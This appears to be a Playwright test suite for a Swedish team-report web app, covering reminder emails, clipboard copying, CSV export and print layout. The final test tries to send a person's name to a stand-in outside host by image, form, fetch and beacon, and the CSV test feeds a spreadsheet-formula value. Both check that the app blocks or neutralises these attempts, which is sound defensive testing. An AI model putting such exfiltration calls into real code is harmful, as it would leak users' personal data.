import { readFileSync } from 'node:fs';
import { largeReport } from '../support/team-view.ts';
import { TeamPage } from './models/team-page.ts';
import { expect, test } from './team-fixtures.ts';

test('a reminder goes to those who need it, and nobody sees who else does', async ({ team }) => {
	await team.show('excel-list-sv.csv');
	const reminder = team.page.getByRole('region', { name: 'Påminn' });
	await expect(reminder).toContainText('3 personer');
	await expect(reminder).toContainText('1 person saknar e-post i rapporten: Leila Haddad.');
	await expect(reminder.getByLabel('Adresserna')).toHaveValue(
		'johan.oberg@bjorken.example; fatima.elamin@bjorken.example',
	);
	await reminder.getByLabel('Texten').fill('Hej! Glöm inte kursen.');
	const mail = reminder.getByRole('link', { name: 'Öppna ett mejl' });
	const address = new URL((await mail.getAttribute('href')) ?? '');
	expect(address.protocol + address.pathname).toBe('mailto:');
	expect(Object.fromEntries(address.searchParams)).toEqual({
		bcc: 'johan.oberg@bjorken.example,fatima.elamin@bjorken.example',
		subject: 'Påminnelse om kursen Ögonblick',
		body: 'Hej! Glöm inte kursen.',
	});

	await team.group('late').click();
	await expect(reminder.getByLabel('Adresserna')).toHaveValue('johan.oberg@bjorken.example');
	await expect(reminder.getByLabel('Texten')).toHaveValue('Hej! Glöm inte kursen.');
	await team.group('done').click();
	await expect(reminder).toContainText('Ingen behöver en påminnelse.');
});

test('the addresses are copied by a button, or selected where the browser does not allow it', async ({
	team,
	context,
}) => {
	await team.show('excel-list-sv.csv');
	await context.grantPermissions(['clipboard-read', 'clipboard-write']);
	await team.button('Kopiera adresserna').click();
	await expect(team.main).toContainText('2 adresser är kopierade.');
	expect(await team.page.evaluate(() => navigator.clipboard.readText())).toBe(
		'johan.oberg@bjorken.example; fatima.elamin@bjorken.example',
	);
	await team.page.evaluate(() => {
		navigator.clipboard.writeText = () => Promise.reject(new Error('no'));
	});
	await team.button('Kopiera texten').click();
	await expect(team.main).toContainText('Texten är markerad: kopiera den själv.');
	await expect(team.field('Texten')).toBeFocused();
});

test('the list is saved as it is shown, and opens in a spreadsheet without doing anything there', async ({
	team,
}) => {
	await team.chooseText(
		'lag.csv',
		"Namn;E-post;Status\n'=1+1;x@eken.example;Klar\nÅsa Öst;;Pågår\n",
	);
	await team.button('Visa laget').click();
	const saving = team.page.waitForEvent('download');
	await team.button('Spara som CSV').click();
	const download = await saving;
	expect(download.suggestedFilename()).toBe('lagoversikt-2026-11-23.csv');
	expect(readFileSync(await download.path(), 'utf8')).toBe(
		[
			'\ufeffNamn;E-post;Enhet;Rapport;Status;Sen;Påbörjad den;Klar den;Sista dag',
			'Åsa Öst;;;lag.csv;Påbörjad;Nej;;;',
			`"'=1+1";x@eken.example;;lag.csv;Klar;Nej;;;`,
			'',
		].join('\r\n'),
	);
});

test('on paper there is the list alone, black on white, with its headings on every page', async ({
	team,
	page,
}) => {
	await page.emulateMedia({ colorScheme: 'dark' });
	await team.chooseText('lag.csv', largeReport(250));
	await team.button('Visa laget').click();
	await expect(team.names).toHaveCount(100);
	await team.group('not-started').click();
	await expect(team.names).toHaveCount(83);
	await team.group('not-started').click();
	await page.evaluate(() => dispatchEvent(new Event('beforeprint')));
	await expect(team.names).toHaveCount(250);
	await page.emulateMedia({ media: 'print', colorScheme: 'dark' });
	await expect(page.getByText('Utskriven 23 november 2026.')).toBeVisible();
	for (const hidden of [
		page.getByRole('banner'),
		team.button('Spara som CSV'),
		team.field('Sök namn, e-post eller enhet'),
		page.getByRole('contentinfo'),
	]) {
		await expect(hidden).toBeHidden();
	}
	const look = await page.evaluate(() => ({
		ground: getComputedStyle(document.body).backgroundColor,
		ink: getComputedStyle(document.body).color,
		head: getComputedStyle(document.querySelector('thead') ?? document.body).display,
	}));
	expect(look).toEqual({
		ground: 'rgb(255, 255, 255)',
		ink: 'rgb(0, 0, 0)',
		head: 'table-header-group',
	});
	const pdf = await page.pdf({ format: 'A4' });
	expect(pdf.toString('latin1').match(/\/Type \/Page\b/g)?.length).toBeGreaterThan(4);
});

test('the browser itself lets nothing out', async ({ page }) => {
	const team = new TeamPage(page);
	const sent: string[] = [];
	await page.route(/^https?:/, (route) => {
		sent.push(route.request().url());
		return route.abort();
	});
	await team.open();
	await team.show('excel-list-sv.csv');
	const refused = await page.evaluate(async () => {
		const violations: string[] = [];
		document.addEventListener('securitypolicyviolation', (event) => {
			violations.push(event.effectiveDirective);
		});
		const picture = new Image();
		picture.src = 'https://elsewhere.example/?name=Karin';
		const form = document.createElement('form');
		form.action = 'https://elsewhere.example/';
		document.body.append(form);
		form.submit();
		const fetched = await fetch('https://elsewhere.example/').catch(() => 'refused');
		const beacon = navigator.sendBeacon('https://elsewhere.example/', 'Karin');
		await new Promise((done) => setTimeout(done, 100));
		return { fetched, beacon, violations: [...new Set(violations)].sort() };
	});
	expect(refused).toMatchObject({
		fetched: 'refused',
		violations: ['connect-src', 'form-action', 'img-src'],
	});
	expect(sent).toEqual([]);
});
